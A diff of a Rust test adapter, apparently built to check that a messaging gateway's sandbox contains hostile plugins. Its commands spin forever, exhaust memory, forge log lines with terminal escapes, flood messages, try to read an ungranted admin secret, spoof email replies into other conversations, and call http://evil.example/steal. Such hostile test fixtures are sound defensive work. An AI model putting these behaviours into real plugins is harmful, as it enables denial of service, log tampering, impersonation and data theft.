@@ -11,153 +11,15 @@
 //! Message-IDs as the message it answers. Anything else is echoed.
 
 use switchboard_channel_sdk::{
-    Adapter, Contact, DeliveryAction, Error, Event, HttpRequest, Identity, Message, Reply,
-    Transport, host,
+    Adapter, Contact, DeliveryAction, Error, Event, HttpRequest, Identity, InboundResult, Message,
+    Reply, Transport, host,
 };
 
 struct Misbehaving;
 
 impl Adapter for Misbehaving {
-    fn inbound(payload: Transport) -> Result<Vec<Event>, Error> {
-        let Transport::Webhook(request) = payload else {
-            return Err(Error::Unsupported("webhooks only".into()));
-        };
-        let command = String::from_utf8_lossy(&request.body).into_owned();
-        let contact = Contact::known_as(Identity::new("external", "tester"));
-        match command.as_str() {
-            "loop" => {
-                let mut spins: u64 = 0;
-                loop {
-                    spins = std::hint::black_box(spins.wrapping_add(1));
-                }
-            }
-            "bloat" => {
-                let mut hoard: Vec<Vec<u8>> = Vec::new();
-                loop {
-                    hoard.push(vec![1; 1 << 20]);
-                    std::hint::black_box(&hoard);
-                }
-            }
-            "trap" => panic!("this adapter traps on purpose"),
-            "sleep" => {
-                std::thread::sleep(std::time::Duration::from_secs(20));
-                Ok(vec![Event::Message(Message::text(
-                    contact,
-                    "slept",
-                    "slept 20 s",
-                ))])
-            }
-            "forge-log" => {
-                switchboard_channel_sdk::warn(
-                    "ok\n2026-12-02T06:00:00.000000Z  WARN switchboard: FORGED the admin password was reset\x1b[2K",
-                );
-                Ok(vec![Event::Message(Message::text(
-                    contact,
-                    "forge-log",
-                    "logged",
-                ))])
-            }
-            "flood" => Ok((0..20_000)
-                .map(|n| {
-                    Event::Message(Message::text(
-                        contact.clone(),
-                        &format!("flood-{n}"),
-                        &"x".repeat(100),
-                    ))
-                })
-                .collect()),
-            // Within the output budget, but past what the gateway takes from one call.
-            "many" => Ok((0..150)
-                .map(|n| {
-                    Event::Message(Message::text(contact.clone(), &format!("many-{n}"), "hola"))
-                })
-                .collect()),
-            "huge-text" => Ok(vec![Event::Message(Message::text(
-                contact,
-                "huge",
-                &"x".repeat(60_000),
-            ))]),
-            // Within every size and depth limit, but slow to sanitize: 900 KiB of markup nested 200
-            // deep, which the host must clean within what is left of the call's time.
-            "heavy-html" => {
-                let chain = format!("{}x{}", "<div>".repeat(200), "</div>".repeat(200));
-                let html = chain.repeat((900 << 10) / chain.len());
-                let mut message = Message::text(contact, "heavy-html", "heavy html");
-                message.html = Some(html);
-                Ok(vec![Event::Message(message)])
-            }
-            "empty-id" => Ok(vec![Event::Message(Message::text(contact, "", "no id"))]),
-            "empty-identity" => Ok(vec![Event::Message(Message::text(
-                Contact::known_as(Identity::new("external", "")),
-                "anonymous",
-                "from nobody",
-            ))]),
-            "overreach" => {
-                let request = HttpRequest {
-                    method: "GET".into(),
-                    url: "http://evil.example/steal".into(),
-                    headers: Vec::new(),
-                    body: Vec::new(),
-                };
-                host::fetch(&request).map(|_| Vec::new())
-            }
-            "secret" => match host::secret("admin_password") {
-                Some(_) => Err(Error::Internal(
-                    "the host handed out a secret that was never granted".into(),
-                )),
-                None => Err(Error::Denied("no secret".into())),
-            },
-            "count" => {
-                let stored = host::kv_get("count").and_then(|bytes| String::from_utf8(bytes).ok());
-                let next = stored
-                    .and_then(|text| text.parse::<u64>().ok())
-                    .unwrap_or(0)
-                    + 1;
-                host::kv_set("count", next.to_string().as_bytes());
-                Ok(vec![Event::Message(Message::text(
-                    contact,
-                    &format!("count-{next}"),
-                    &next.to_string(),
-                ))])
-            }
-            text if text.starts_with("hoard ") => {
-                // 900 KiB under a key of the caller's choosing, against a 1 MiB store.
-                host::kv_set(&text["hoard ".len()..], &vec![7; 900 * 1024]);
-                Ok(vec![Event::Message(Message::text(
-                    contact, text, "hoarded",
-                ))])
-            }
-            text if text.starts_with("answer ") => {
-                // `answer <email> <message-id>`: a message from that address naming one of the
-                // gateway's Message-IDs, to slip into a conversation of another channel.
-                let mut words = text["answer ".len()..].split_whitespace();
-                let (Some(email), Some(id)) = (words.next(), words.next()) else {
-                    return Err(Error::Malformed("answer <email> <message-id>".into()));
-                };
-                let from = Contact::known_as(Identity::new("email", email));
-                let mut message = Message::text(from, "answer-1", "Respondo aquí");
-                message.in_reply_to = Some(id.to_string());
-                Ok(vec![Event::Message(message)])
-            }
-            text if text.starts_with("fetch ") => {
-                let request = HttpRequest {
-                    method: "GET".into(),
-                    url: text["fetch ".len()..].to_string(),
-                    headers: Vec::new(),
-                    body: Vec::new(),
-                };
-                let response = host::fetch(&request)?;
-                let answer = format!(
-                    "status {}: {}",
-                    response.status,
-                    String::from_utf8_lossy(&response.body)
-                );
-                Ok(vec![Event::Message(Message::text(
-                    contact, "fetched", &answer,
-                ))])
-            }
-            text => Ok(vec![Event::Message(Message::text(contact, text, text))]),
-        }
+    fn inbound(payload: Transport) -> Result<InboundResult, Error> {
+        events(payload).map(Into::into)
     }
 
     /// A reply whose text is `fan-out <url>` becomes 500 requests to that URL; any other is
@@ -180,3 +42,144 @@ impl Adapter for Misbehaving {
 }
 
 switchboard_channel_sdk::export_adapter!(Misbehaving);
+
+/// What the test asked for, by the webhook's body.
+fn events(payload: Transport) -> Result<Vec<Event>, Error> {
+    let Transport::Webhook(request) = payload else {
+        return Err(Error::Unsupported("webhooks only".into()));
+    };
+    let command = String::from_utf8_lossy(&request.body).into_owned();
+    let contact = Contact::known_as(Identity::new("external", "tester"));
+    match command.as_str() {
+        "loop" => {
+            let mut spins: u64 = 0;
+            loop {
+                spins = std::hint::black_box(spins.wrapping_add(1));
+            }
+        }
+        "bloat" => {
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                hoard.push(vec![1; 1 << 20]);
+                std::hint::black_box(&hoard);
+            }
+        }
+        "trap" => panic!("this adapter traps on purpose"),
+        "sleep" => {
+            std::thread::sleep(std::time::Duration::from_secs(20));
+            Ok(vec![Event::Message(Message::text(
+                contact,
+                "slept",
+                "slept 20 s",
+            ))])
+        }
+        "forge-log" => {
+            switchboard_channel_sdk::warn(
+                "ok\n2026-12-02T06:00:00.000000Z  WARN switchboard: FORGED the admin password was reset\x1b[2K",
+            );
+            Ok(vec![Event::Message(Message::text(
+                contact,
+                "forge-log",
+                "logged",
+            ))])
+        }
+        "flood" => Ok((0..20_000)
+            .map(|n| {
+                Event::Message(Message::text(
+                    contact.clone(),
+                    &format!("flood-{n}"),
+                    &"x".repeat(100),
+                ))
+            })
+            .collect()),
+        // Within the output budget, but past what the gateway takes from one call.
+        "many" => Ok((0..150)
+            .map(|n| Event::Message(Message::text(contact.clone(), &format!("many-{n}"), "hola")))
+            .collect()),
+        "huge-text" => Ok(vec![Event::Message(Message::text(
+            contact,
+            "huge",
+            &"x".repeat(60_000),
+        ))]),
+        // Within every size and depth limit, but slow to sanitize: 900 KiB of markup nested 200
+        // deep, which the host must clean within what is left of the call's time.
+        "heavy-html" => {
+            let chain = format!("{}x{}", "<div>".repeat(200), "</div>".repeat(200));
+            let html = chain.repeat((900 << 10) / chain.len());
+            let mut message = Message::text(contact, "heavy-html", "heavy html");
+            message.html = Some(html);
+            Ok(vec![Event::Message(message)])
+        }
+        "empty-id" => Ok(vec![Event::Message(Message::text(contact, "", "no id"))]),
+        "empty-identity" => Ok(vec![Event::Message(Message::text(
+            Contact::known_as(Identity::new("external", "")),
+            "anonymous",
+            "from nobody",
+        ))]),
+        "overreach" => {
+            let request = HttpRequest {
+                method: "GET".into(),
+                url: "http://evil.example/steal".into(),
+                headers: Vec::new(),
+                body: Vec::new(),
+            };
+            host::fetch(&request).map(|_| Vec::new())
+        }
+        "secret" => match host::secret("admin_password") {
+            Some(_) => Err(Error::Internal(
+                "the host handed out a secret that was never granted".into(),
+            )),
+            None => Err(Error::Denied("no secret".into())),
+        },
+        "count" => {
+            let stored = host::kv_get("count").and_then(|bytes| String::from_utf8(bytes).ok());
+            let next = stored
+                .and_then(|text| text.parse::<u64>().ok())
+                .unwrap_or(0)
+                + 1;
+            host::kv_set("count", next.to_string().as_bytes());
+            Ok(vec![Event::Message(Message::text(
+                contact,
+                &format!("count-{next}"),
+                &next.to_string(),
+            ))])
+        }
+        text if text.starts_with("hoard ") => {
+            // 900 KiB under a key of the caller's choosing, against a 1 MiB store.
+            host::kv_set(&text["hoard ".len()..], &vec![7; 900 * 1024]);
+            Ok(vec![Event::Message(Message::text(
+                contact, text, "hoarded",
+            ))])
+        }
+        text if text.starts_with("answer ") => {
+            // `answer <email> <message-id>`: a message from that address naming one of the
+            // gateway's Message-IDs, to slip into a conversation of another channel.
+            let mut words = text["answer ".len()..].split_whitespace();
+            let (Some(email), Some(id)) = (words.next(), words.next()) else {
+                return Err(Error::Malformed("answer <email> <message-id>".into()));
+            };
+            let from = Contact::known_as(Identity::new("email", email));
+            let mut message = Message::text(from, "answer-1", "Respondo aquí");
+            message.in_reply_to = Some(id.to_string());
+            Ok(vec![Event::Message(message)])
+        }
+        text if text.starts_with("fetch ") => {
+            let request = HttpRequest {
+                method: "GET".into(),
+                url: text["fetch ".len()..].to_string(),
+                headers: Vec::new(),
+                body: Vec::new(),
+            };
+            let response = host::fetch(&request)?;
+            let answer = format!(
+                "status {}: {}",
+                response.status,
+                String::from_utf8_lossy(&response.body)
+            );
+            Ok(vec![Event::Message(Message::text(
+                contact, "fetched", &answer,
+            ))])
+        }
+        text => Ok(vec![Event::Message(Message::text(contact, text, text))]),
+    }
+}
